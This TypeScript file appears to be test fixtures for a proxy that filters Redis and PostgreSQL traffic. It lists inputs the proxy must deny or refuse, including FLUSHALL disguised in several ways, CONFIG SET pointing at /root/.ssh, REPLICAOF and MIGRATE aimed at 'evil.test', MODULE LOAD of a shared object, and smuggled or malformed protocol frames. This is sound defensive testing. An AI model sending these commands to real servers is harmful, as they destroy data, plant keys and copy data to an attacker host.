/** Redis and PostgreSQL, byte by byte: commands in disguise, lengths that lie, messages that two readers would cut differently. */
import type { Row } from './play.ts';

const command = (...words: readonly string[]): string => `*${words.length}\r\n${words.map((word) => `$${Buffer.byteLength(word, 'latin1')}\r\n${word}\r\n`).join('')}`;
const flush = command('FLUSHALL');

const denied: readonly (readonly [string, string])[] = [
  ['plainly', flush], ['in small letters', command('flushall')], ['with a blank behind', command('FLUSHALL ')], ['with a blank in front', command(' FLUSHALL')], ['with a NUL', command('GET\0', 'k')], ['with a line break', command('GET\r\nFLUSHALL', 'k')], ['in wide letters', command('\xef\xbc\xa7\xef\xbc\xa5\xef\xbc\xb4', 'k')], ['with no name', command('', 'k')],
  ['EVAL', command('EVAL', "redis.call('FLUSHALL')", '0')], ['EVALSHA', command('EVALSHA', 'aa', '0')], ['SCRIPT', command('SCRIPT', 'LOAD', 'x')], ['FCALL', command('FCALL', 'f', '0')], ['CONFIG SET', command('CONFIG', 'SET', 'dir', '/root/.ssh')], ['SLAVEOF', command('SLAVEOF', 'evil.test', '6379')], ['REPLICAOF', command('REPLICAOF', 'evil.test', '6379')], ['MIGRATE', command('MIGRATE', 'evil.test', '6379', 'k', '0', '9')],
  ['MODULE LOAD', command('MODULE', 'LOAD', '/tmp/x.so')], ['DEBUG', command('DEBUG', 'SLEEP', '1')], ['MULTI', command('MULTI')], ['EXEC', command('EXEC')], ['SUBSCRIBE', command('SUBSCRIBE', 'c')], ['MONITOR', command('MONITOR')], ['CLIENT KILL', command('CLIENT', 'KILL', 'TYPE', 'normal')], ['CLIENT REPLY', command('CLIENT', 'REPLY', 'OFF')], ['ACL', command('ACL', 'SETUSER', 'x')], ['PSYNC', command('PSYNC', '?', '-1')], ['KEYS', command('KEYS', '*')], ['GETSET', command('GETSET', 'k', 'v')], ['SETEX', command('SETEX', 'k', '1', 'v')],
];

const broken: readonly (readonly [string, string])[] = [
  ['inline', 'FLUSHALL\r\n'], ['inline, allowed', 'GET k\r\n'], ['a request of HTTP', 'POST / HTTP/1.1\r\nHost: cache.test\r\n\r\nFLUSHALL\r\n'], ['an empty line', '\r\nFLUSHALL\r\n'], ['a list of nothing', `*0\r\n${flush}`], ['a list of minus one', `*-1\r\n${flush}`], ['a count with a plus', `*+1\r\n$4\r\nPING\r\n${flush}`], ['a count with a zero', `*01\r\n$4\r\nPING\r\n${flush}`], ['a count with a blank', '* 1\r\n$4\r\nPING\r\n'],
  ['a count in hexadecimal', '*0x1\r\n$4\r\nPING\r\n'], ['line feeds alone', '*1\n$4\nPING\n\r\n'], ['a length with a plus', '*1\r\n$+4\r\nPING\r\n'], ['a length of minus one', '*1\r\n$-1\r\n'], ['a length that is too short', `*1\r\n$2\r\nPING\r\n${flush}`], ['a length that ends in the next command', `*2\r\n$3\r\nGET\r\n$3\r\nk\r\n${flush}`], ['a number for a text', '*1\r\n:1\r\n'], ['a simple text', '*1\r\n+PING\r\n'], ['a list in a list', `*1\r\n${flush}`],
  ['a set of RESP 3', '~1\r\n$8\r\nFLUSHALL\r\n'], ['a map of RESP 3', '%1\r\n$8\r\nFLUSHALL\r\n$1\r\nx\r\n'], ['a push of RESP 3', '>1\r\n$8\r\nFLUSHALL\r\n'], ['an attribute of RESP 3', `|1\r\n+a\r\n+b\r\n${flush}`], ['a verbatim text of RESP 3', '*1\r\n=12\r\ntxt:FLUSHALL\r\n'], ['a streamed list', '*?\r\n$8\r\nFLUSHALL\r\n.\r\n'], ['a streamed text', '*1\r\n$?\r\n;8\r\nFLUSHALL\r\n;0\r\n'], ['a list beyond all bounds', '*1000000000\r\n'], ['a text beyond all bounds', '*1\r\n$999999999\r\n'],
  ['texts that are too much together', `*2\r\n$4000000\r\n${'a'.repeat(10)}`.replace('*2\r\n$4000000', '*2\r\n$9000000')], ['a header that never ends', `*${'1'.repeat(100)}`], ['a hello of TLS 1.0 without a name', '\x16\x03\x01\x00\x05\x01\x00\x00\x01\x00'],
];

export const redis: readonly Row[] = [
  { name: 'control: a command', say: [command('GET', 'k')], told: /^\+OK/, hears: ['GET k'] },
  { name: 'control: in small letters, byte by byte as it stands', say: [command('set', 'k', 'a\r\nb\0\xff')], told: /^\+OK/, hears: ['set k a\r\nb\0\xff'] },
  { name: 'a value that is a command is a value', say: [command('SET', 'k', `\r\n${flush}`)], told: /^\+OK/, hears: [`SET k \r\n${flush}`] },
  { name: 'between two commands a denied one is left out, and its answer stands in its place', say: [command('GET', '1') + flush + command('GET', '2')], told: /^\+OK\r\n-ERR denied by policy[^\n]*\n\+OK\r\n$/, hears: ['GET 1', 'GET 2'] },
  { name: 'countless commands in one piece', say: [command('PING').repeat(2000)], told: /^(?:\+OK\r\n){2000}$/, hears: Array.from({ length: 2000 }, () => 'PING'), once: true },
  ...denied.map(([name, bytes]): Row => ({ name: `Redis, ${name}: denied`, say: [bytes], told: /^-ERR/, hears: [] })),
  ...broken.map(([name, bytes]): Row => ({ name: `Redis, ${name}: no command`, say: [bytes], told: /^(?:\x16|\*1{9})/.test(bytes) ? 'closed' : /^-ERR/, hears: [] })),
  { name: 'a command that is never whole is never sent', say: [command('GET', 'k') + '*2\r\n$3\r\nSET\r\n$90\r\nk\r\n'], told: /^\+OK/, hears: ['GET k'] },
  { name: 'behind a broken command nothing is read', say: [`PING\r\n${command('GET', 'k')}`], told: /^-ERR/, hears: [] },
];

const u32 = (value: number): string => String.fromCharCode((value >>> 24) & 255, (value >>> 16) & 255, (value >>> 8) & 255, value & 255);
const sized = (content: string): string => u32(content.length + 4) + content;
const startup = (parameters: string, version = 196_608): string => sized(`${u32(version)}${parameters}\0`);
const mine = 'user\0tester\0database\0app\0';
const ssl = sized(u32(80_877_103));
const gss = sized(u32(80_877_104));
const query = (sql: string): string => `Q${sized(`${sql}\0`)}`;
const start = `start ${mine.replaceAll('\0', '|')}|`;

const starts: readonly (readonly [string, string])[] = [
  ['another database', startup('user\0tester\0database\0payroll\0')], ['another user', startup('user\0postgres\0database\0app\0')], ['the user in capitals', startup('user\0TESTER\0database\0app\0')], ['the database in capitals', startup('user\0tester\0database\0APP\0')], ['a blank behind the database', startup('user\0tester\0database\0app \0')], ['no database: the user’s own', startup('user\0tester\0')], ['an empty database', startup('user\0tester\0database\0\0')], ['no user', startup('database\0app\0')],
  ['the user twice', startup(`user\0tester\0user\0postgres\0database\0app\0`)], ['the database twice', startup(`${mine}database\0payroll\0`)], ['a word without a value', startup(`${mine}x\0`)], ['nothing at the end', sized(`${u32(196_608)}${mine}`)], ['something behind the end', sized(`${u32(196_608)}${mine}\0database\0payroll\0\0`)], ['version 2', startup(mine, 131_072)], ['version 4', startup(mine, 262_144)], ['version 0', startup(mine, 0)],
  ['replication', startup(`${mine}replication\0true\0`)], ['replication of a database', startup(`${mine}replication\0database\0`)], ['replication by a number', startup(`${mine}replication\x001\0`)], ['a length of nothing', u32(0) + startup(mine)], ['a length of seven', u32(7) + startup(mine)], ['a length beyond all bounds', u32(0x7fffffff) + startup(mine)], ['a length below zero', u32(0xffffffff) + startup(mine)], ['a length that ends in the middle', startup(mine).replace(/^..../s, u32(20))],
  ['a request of HTTP', 'GET / HTTP/1.1\r\nHost: db.test\r\n\r\n'], ['a query without a start', query('select 1')], ['a question about encryption with more in it', `${u32(12)}${u32(80_877_103)}xxxx`], ['a question about encryption and a start in one piece', ssl + startup(mine)], ['a question about GSS and a start in one piece', gss + startup(mine)], ['two questions about encryption in one piece', ssl + ssl],
  ['a cancel request with more in it', sized(`${u32(80_877_102)}${u32(1)}${u32(2)}${'x'.repeat(600)}`)], ['a user in UTF-8', startup('user\0t\xd0\xb5ster\0database\0app\0')], ['a user with a line feed', startup('user\0tester\n\0database\0app\0')],
];

export const postgres: readonly Row[] = [
  { name: 'control: a start and a query', say: [startup(mine), query('select 1')], told: /SELECT 1/, hears: [start, 'Q select 1|'] },
  { name: 'control: a start and a query in one piece', say: [startup(mine) + query('select 1')], told: /SELECT 1/, hears: [start, 'Q select 1|'] },
  { name: 'control: GSS is declined, then the start', say: [gss, startup(mine), query('select 1')], told: /SELECT 1/, hears: [start, 'Q select 1|'] },
  { name: 'options of the session pass as they are', say: [startup(`${mine}options\0-c search_path=x\0application_name\0a\0`), query('select 1')], told: /SELECT 1/, hears: ['start user|tester|database|app|options|-c search_path=x|application_name|a||', 'Q select 1|'] },
  ...starts.map(([name, bytes]): Row => ({ name: `PostgreSQL, ${name}: refused`, say: [bytes], told: 'closed', hears: [] })),
  { name: 'a message of length zero behind the start ends it', say: [startup(mine), `Q${u32(0)}${query('drop table x')}`], told: 'closed', hears: [start] },
  { name: 'a message of length three behind the start ends it', say: [startup(mine), `Q${u32(3)}${query('drop table x')}`], told: 'closed', hears: [start] },
  { name: 'another start behind the start is no start', say: [startup(mine), query('select 1') + startup('user\0postgres\0database\0payroll\0')], told: /SELECT 1/, hears: [start, 'Q select 1|'] },
  { name: 'a cancel request carries its key and nothing else', say: [`${sized(`${u32(80_877_102)}${u32(1)}${u32(2)}`)}${startup(mine)}`], told: 'closed', hears: ['code 80877102 |||\x01|||\x02'] },
  { name: 'a message that is never whole is never sent', say: [startup(mine), `${query('select 1')}Q${u32(90)}drop table x\0`], told: /SELECT 1/, hears: [start, 'Q select 1|'] },
];
